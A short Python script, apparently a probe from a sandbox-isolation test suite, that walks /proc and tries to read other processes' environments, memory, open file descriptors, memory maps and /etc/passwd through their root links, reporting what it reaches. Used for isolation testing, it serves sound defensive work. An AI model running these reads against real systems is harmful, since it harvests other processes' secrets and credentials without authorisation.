"""Reads what /proc tells about processes outside: command lines, environments, memory, open files."""
import os

from attack import found, play_on

own = {str(os.getpid()), "self", "thread-self"}
numbers = [name for name in (os.listdir("/proc") if os.path.isdir("/proc") else []) if name.isdigit()]
found(f"sees {len(numbers)} processes", "@victim@" in numbers or len(numbers) > 50)
for pid in set(numbers + ["1", "@victim@", str(os.getppid())]) - own:
    for what in ["environ", "mem", "fd/0", "root/etc/passwd", "cwd/.", "maps"]:
        path = f"/proc/{pid}/{what}"
        try:
            content = os.listdir(path) if what == "cwd/." else open(path, "rb").read(4096)
            found(f"{path}: {content[:200]}", bool(content))
        except OSError as error:
            found(f"{path}: {error.strerror}", False)
play_on()
